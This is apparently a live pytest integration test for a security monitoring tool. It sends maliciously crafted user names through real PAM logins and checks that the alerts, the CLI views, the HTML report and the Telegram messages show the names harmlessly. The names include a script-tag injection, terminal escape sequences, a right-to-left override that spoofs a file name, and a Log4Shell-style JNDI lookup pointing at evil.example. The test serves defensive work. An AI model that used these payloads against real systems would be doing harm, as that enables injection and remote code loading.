"""User names made to do harm, asked of the real PAM, through every place where a person reads them."""

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from appliance import SOURCE, RunningAppliance
from lab import Lab, wait_until
from peers.telegram_api import TOKEN, TelegramApi
from test_auth_early import CLIENT

pytestmark = [pytest.mark.live, pytest.mark.timeout(120)]
CHAT = 1000
NAMES = (
    "<b>bob</b>&](http://evil.example)",
    "</code></pre><script>alert(1)</script>",
    "\x1b[2J\x1b]0;owned\x07\x9b31mred",
    "\u202egnp.exe\u2066",
    "A" * 5000,
    "*_`~|${jndi:ldap://evil.example}%s%n",
)
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")
#: What no person must get raw: control characters but for new lines and tabs, and what turns text around.
HARM = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
RULES = """version: 1
rules:
  - id: guessed
    title: Guessed names
    level: high
    event: auth.attempt
    detection: {failed: {event.outcome: failure, service.name: other}, condition: failed}
    correlation:
      type: value_count
      field: user.name
      group-by: [source.ip]
      timespan: 60s
      condition: {gte: 6}
"""


@pytest.fixture
def lab():
    with Lab("host", "peer") as made:
        yield made


class Page(HTMLParser):
    """What a page is made of, and its text."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.text = set(), ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)

    def handle_data(self, data):
        self.text += data


def kwsiem(appliance, *words):
    argv = [sys.executable, "-m", "kwsiem", *words, "--config", str(appliance.folder / "kwsiem.yaml")]
    done = subprocess.run(argv, cwd=SOURCE, capture_output=True, timeout=30, check=True)
    return done.stdout.decode("utf-8")  # strictly: nothing else may come out


def test_names_made_to_do_harm_are_shown_and_do_none(lab, tmp_path):
    with lab.inside("host"):
        server = TelegramApi((CHAT,), burst=30)
    env = tmp_path / "env"
    env.write_text(f"TELEGRAM_BOT_TOKEN={TOKEN}\n")
    env.chmod(0o600)
    outputs = f"  - {{name: tg, type: telegram, url: '{server.url}', chat_id: '{CHAT}', level: high}}\n"
    appliance = RunningAppliance(lab, tmp_path, rules=RULES, outputs=outputs, settings=f"env_file: {env}\n")
    with server, appliance:
        guess(lab)
        alert = appliance.wait_alert("guessed")
        wait_until(lambda: server.shown, 10, "the message in the chat")
        views = [
            kwsiem(appliance, *words)
            for words in (
                ("alerts",),
                ("alerts", "show", alert["event"]["id"]),
                ("top", "--once"),
                ("status", "net", "tg"),
            )
        ]
        report = kwsiem(appliance, "report", "--since", "1h", "--output", "-")
    page = Page(report)
    assert not {"script", "a", "img", "link", "iframe"} & page.tags, page.tags
    views += [page.text, kwsiem(appliance, "replay", str(appliance.recording)), appliance.log.read_text()]
    for text in views:
        assert not HARM.search(text), text
    for name in NAMES:
        known = HARM.sub("\ufffd", name)[:60]  # of a long one the probe tells the beginning
        assert known in server.shown[0].text  # Telegram took it: no tag in it that is not known there
        assert known in views[1]
        assert known in page.text
        assert any(
            value.startswith(CONTROL.sub("\ufffd", name)[:60]) for value in alert["kwsiem"]["alert"]["values"]
        )


def guess(lab):
    """One wrong password for each name, as a login service asks PAM."""
    running = [
        lab.popen("host", [sys.executable, "-c", CLIENT, "other", name, lab.ip4("peer")]) for name in NAMES
    ]
    assert [process.wait(20) for process in running] == [1] * len(NAMES)
